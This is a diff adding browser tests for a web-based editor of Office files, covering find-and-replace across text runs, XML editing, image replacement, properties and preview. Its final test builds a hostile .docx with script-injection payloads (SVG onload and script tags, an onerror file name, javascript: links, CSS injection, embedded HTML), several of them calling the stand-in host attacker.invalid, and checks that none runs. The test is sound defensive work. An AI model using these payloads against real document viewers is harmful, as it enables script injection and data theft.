@@ -1,0 +1,225 @@
+// SPDX-License-Identifier: Apache-2.0
+// Office documents in the page: what is edited is saved, and all else comes back as it was.
+import assert from "node:assert/strict";
+import { writeFileSync } from "node:fs";
+import { join } from "node:path";
+
+import { temporaryFolder, waitFor } from "../../serve/processes.mjs";
+import { browserTest, Session } from "./harness.mjs";
+import { archive, BINARY, png, presentationFiles, relationships, textIn, unpack, wordFiles, workbookFiles } from "./office_files.mjs";
+
+async function open(t, name, files, options) {
+  const session = await Session.start(t, { [name]: archive(files) }, options);
+  session.page = await session.newPage(`&file=${encodeURIComponent(session.path(name))}`);
+  await session.page.locator(".package").waitFor();
+  return session;
+}
+
+// Saves, and waits until the file on disk is another one.
+async function save(session, name) {
+  const before = session.read(name);
+  await session.page.keyboard.press("Control+s");
+  await waitFor("the save", () => !session.read(name).equals(before));
+  return session.read(name);
+}
+
+const tab = (page, name) => page.getByRole("tab", { name, exact: true });
+
+async function openPart(page, name) {
+  await tab(page, "Parts").click();
+  await page.getByRole("treeitem", { name: new RegExp(`^${name}`) }).click();
+}
+
+// The targets, kinds and modes of a relationships file, in any order.
+function relationshipsIn(bytes) {
+  const tags = new TextDecoder().decode(bytes).match(/<Relationship\s[^>]*>/g) ?? [];
+  const attribute = (tag, name) => new RegExp(`\\b${name}="([^"]*)"`).exec(tag)?.[1] ?? "";
+  const isExternal = (tag) => attribute(tag, "TargetMode") === "External";
+  return tags.map((tag) => [...["Id", "Type", "Target"].map((name) => attribute(tag, name)), isExternal(tag)].join(" ")).sort();
+}
+
+// All but what `changed` names: the same parts, bytes and relationships.
+function assertSameBut(changed, before, after) {
+  const [old, now] = [unpack(before), unpack(after)];
+  assert.deepEqual(Object.keys(now).sort(), Object.keys(old).sort());
+  for (const [name, bytes] of Object.entries(old)) {
+    if (name.endsWith(".rels")) {
+      assert.deepEqual(relationshipsIn(now[name]), relationshipsIn(bytes), name);
+    } else if (name !== "[Content_Types].xml") {
+      assert.equal(Buffer.from(now[name]).equals(Buffer.from(bytes)), !changed.includes(name), name);
+    }
+  }
+}
+
+for (const [name, files, changed, expected] of [
+  ["report.docm", wordFiles(), ["word/document.xml", "word/header1.xml"], ["word/document.xml", /The Budget<\/w:t><\/w:r><w:r><w:rPr><w:b\/><\/w:rPr><w:t xml:space="preserve"><\/w:t><\/w:r><w:r><w:t xml:space="preserve"> of 2026</]],
+  ["book.xlsx", workbookFiles(), ["xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"], ["xl/sharedStrings.xml", /<r><t>Budget<\/t><\/r><r><rPr><b\/><\/rPr><t xml:space="preserve"> <\/t><\/r>/]],
+  ["talk.pptx", presentationFiles(), ["ppt/slides/slide1.xml"], ["ppt/slides/slide1.xml", /<a:t>Budget<\/a:t><\/a:r><a:r><a:rPr b="1"\/><a:t><\/a:t>/]],
+]) {
+  browserTest(`text is found and replaced across the runs of ${name}, and all else is saved as it was`, async (t) => {
+    const session = await open(t, name, files);
+    const { page } = session;
+    const before = session.read(name);
+    await page.getByLabel("Find", { exact: true }).fill("annual report");
+    await page.locator(".package-paragraphs mark").first().waitFor();
+    assert.equal(await page.locator(".package-paragraphs mark").count(), changed.length);
+    await page.getByLabel("Replace with").fill("Budget");
+    await page.getByRole("button", { name: "Replace all" }).click();
+    const after = await save(session, name);
+    assertSameBut(changed, before, after);
+    assert.match(textIn(after, expected[0]), expected[1]);
+  });
+}
+
+browserTest("one paragraph's match is replaced alone, and that is undone and done again", async (t) => {
+  const session = await open(t, "report.docx", wordFiles());
+  const { page } = session;
+  await page.getByLabel("Find", { exact: true }).fill("Annual report");
+  await page.getByLabel("Replace with").fill("Budget");
+  await page.getByRole("button", { name: "Replace", exact: true }).first().click();
+  await page.getByText("1 found").waitFor();
+  await page.getByRole("button", { name: "Undo" }).click();
+  await page.getByText("2 found").waitFor();
+  await page.getByRole("button", { name: "Redo" }).click();
+  await page.getByText("1 found").waitFor();
+  assert.match(textIn(await save(session, "report.docx"), "word/header1.xml"), /Annual report, page/);
+});
+
+browserTest("XML is laid out for reading, and saved without its layout", async (t) => {
+  const session = await open(t, "report.docx", wordFiles());
+  const { page } = session;
+  const before = session.read("report.docx");
+  await openPart(page, "document.xml");
+  const editor = page.getByRole("textbox", { name: "/word/document.xml" });
+  assert.ok((await editor.locator(".cm-line").count()) > 10);
+  await editor.locator(".cm-line", { hasText: "<w:body>" }).click();
+  await page.keyboard.press("End");
+  await page.keyboard.type("<!-- here -->");
+  const after = await save(session, "report.docx");
+  assertSameBut(["word/document.xml"], before, after);
+  assert.equal(textIn(after, "word/document.xml").replace("<!-- here -->", ""), textIn(before, "word/document.xml"));
+});
+
+browserTest("XML that is not well-formed is told, and saved only after asking", async (t) => {
+  const session = await open(t, "report.docx", wordFiles());
+  const { page } = session;
+  const before = session.read("report.docx");
+  await openPart(page, "header1.xml");
+  await page.getByRole("textbox", { name: "/word/header1.xml" }).click();
+  await page.keyboard.press("Control+End");
+  await page.keyboard.type("<");
+  await page.getByText(/Line \d+ is not well-formed/).waitFor();
+  await page.keyboard.press("Control+s");
+  const dialog = page.getByRole("dialog");
+  await dialog.getByRole("button", { name: "Go on editing" }).click();
+  assert.ok(session.read("report.docx").equals(before));
+  await page.keyboard.press("Backspace");
+  await page.getByText(/is not well-formed/).waitFor({ state: "hidden" });
+});
+
+browserTest("an image is shown, exported, and replaced by one that is dropped or picked", async (t) => {
+  const session = await open(t, "report.docx", wordFiles());
+  const { page } = session;
+  const before = session.read("report.docx");
+  await openPart(page, "image1.png");
+  const image = page.getByRole("img", { name: "/word/media/image1.png" });
+  assert.equal(await image.evaluate(async (one) => (await one.decode(), one.naturalWidth)), 20);
+  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export" }).click()]);
+  assert.equal(download.suggestedFilename(), "image1.png");
+
+  const other = png(30, 10, [0, 200, 0]);
+  const file = join(temporaryFolder(t), "green.png");
+  writeFileSync(file, other);
+  await page.getByLabel("Replace image …").setInputFiles(file);
+  await page.waitForFunction(() => document.querySelector(".package-image img")?.naturalWidth === 30);
+  const data = await page.evaluateHandle((bytes) => {
+    const transfer = new DataTransfer();
+    transfer.items.add(new File([Uint8Array.from(bytes)], "not an image.png"));
+    return transfer;
+  }, [1, 2, 3]);
+  await page.dispatchEvent(".package-image", "drop", { dataTransfer: data });
+  await page.getByText("cannot take the place").waitFor();
+
+  const after = await save(session, "report.docx");
+  assertSameBut(["word/media/image1.png"], before, after);
+  assert.ok(Buffer.from(unpack(after)["word/media/image1.png"]).equals(other));
+});
+
+browserTest("a property is changed in its form", async (t) => {
+  const session = await open(t, "report.docx", wordFiles());
+  const { page } = session;
+  const before = session.read("report.docx");
+  await tab(page, "Properties").click();
+  assert.equal(await page.getByLabel("Creator").inputValue(), "Zoë");
+  await page.getByLabel("Title").fill("New & better");
+  const after = await save(session, "report.docx");
+  assertSameBut(["docProps/core.xml"], before, after);
+  assert.match(textIn(after, "docProps/core.xml"), /<dc:title>New &amp; better<\/dc:title><dc:creator>Zoë</);
+});
+
+browserTest("the outline is used with the keyboard alone", async (t) => {
+  const { page } = await open(t, "report.docx", wordFiles());
+  await tab(page, "Parts").click();
+  await page.getByRole("treeitem", { name: /^document.xml/ }).focus();
+  await page.keyboard.press("ArrowLeft"); // its folder
+  await page.keyboard.press("ArrowLeft"); // closed
+  assert.equal(await page.getByRole("treeitem", { name: /^document.xml/ }).isVisible(), false);
+  await page.keyboard.press("ArrowRight");
+  await page.keyboard.type("i");
+  await page.keyboard.press("Enter");
+  await page.getByRole("img", { name: "/word/media/image1.png" }).waitFor();
+});
+
+browserTest("the preview shows the document and follows what is edited", async (t) => {
+  const { page } = await open(t, "report.docx", wordFiles(), { viewport: { width: 1000, height: 700 } });
+  await page.getByRole("button", { name: "Preview" }).click();
+  const preview = page.frameLocator("iframe[title=Preview]");
+  await preview.getByText("The Annual report of 2026").waitFor();
+  assert.equal(await preview.locator("img").evaluate(async (one) => (await one.decode(), one.naturalWidth)), 20);
+  await page.getByLabel("Find", { exact: true }).fill("Annual report");
+  await page.getByLabel("Replace with").fill("Budget");
+  await page.getByRole("button", { name: "Replace all" }).click();
+  await preview.getByText("The Budget of 2026").waitFor();
+  await page.getByRole("button", { name: "Preview" }).click();
+  assert.equal(await page.locator("iframe").count(), 0);
+});
+
+browserTest("a hostile document does nothing", async (t) => {
+  const attack = "fetch('http://attacker.invalid/'); globalThis.attacked = parent.attacked = true";
+  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" onload="${attack}"><script>${attack}</script><image href="http://attacker.invalid/x.png" xlink:href="http://attacker.invalid/y.png" width="9" height="9"/></svg>`;
+  const name = "%3Cimg%20src=x%20onerror=attacked=1%3E.xml";
+  const blip = '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:9pt;height:9pt;background:url(http://attacker.invalid/s)" onclick="attacked=1"><v:imagedata r:id="rId7"/></v:shape></w:pict></w:r></w:p>';
+  const body =
+    `<w:p><w:hyperlink r:id="rId6"><w:r><w:t>&lt;script&gt;attacked=1&lt;/script&gt; press me</w:t></w:r></w:hyperlink></w:p>${blip}` +
+    '<w:altChunk r:id="rId8"/><w:p><w:r><w:rPr><w:rFonts w:ascii="x;} @import url(http://attacker.invalid/f); a{"/><w:color w:val="red;background:url(http://attacker.invalid/c)"/></w:rPr><w:t>styled</w:t></w:r></w:p>';
+  const files = wordFiles(body, {
+    [`word/${name}`]: `<a><img src="x" onerror="${attack}"/></a>`,
+    "word/media/evil.svg": svg,
+    "word/evil.html": `<script>${attack}</script><img src="http://attacker.invalid/z.png">`,
+  });
+  files["[Content_Types].xml"] = files["[Content_Types].xml"].replace("<Default ", '<Default Extension="svg" ContentType="image/svg+xml"/><Default Extension="html" ContentType="text/html"/><Default ');
+  files["word/_rels/document.xml.rels"] = relationships(
+    ["rId1", "image", "media/evil.svg"],
+    ["rId2", "hyperlink", "javascript:attacked=1", true],
+    ["rId6", "hyperlink", "javascript:attacked=1", true],
+    ["rId7", "image", "http://attacker.invalid/external.png", true],
+    ["rId8", "aFChunk", "evil.html"],
+  );
+  // The policy refuses what the preview's styles would load, and says so. That it was refused is what counts.
+  const session = await open(t, "evil.docx", files, { expectedProblems: [/Content Security Policy/i], viewport: { width: 1300, height: 800 } });
+  const { page } = session;
+  const preview = page.frameLocator("iframe[title=Preview]");
+  await preview.getByText("press me").click();
+  await preview.getByText("styled").waitFor();
+  await openPart(page, "evil.svg");
+  await page.getByRole("img", { name: "/word/media/evil.svg" }).waitFor();
+  await openPart(page, "evil.html");
+  await tab(page, "Parts").click();
+  await page.getByRole("treeitem", { name: /onerror/ }).click();
+  await page.waitForTimeout(500);
+  assert.equal(await page.evaluate(() => globalThis.attacked), undefined);
+  assert.equal(await page.locator("img[onerror], script:not([src])").count(), 0);
+  for (const frame of page.frames()) {
+    assert.ok(!frame.url().includes("attacker"), frame.url());
+  }
+});
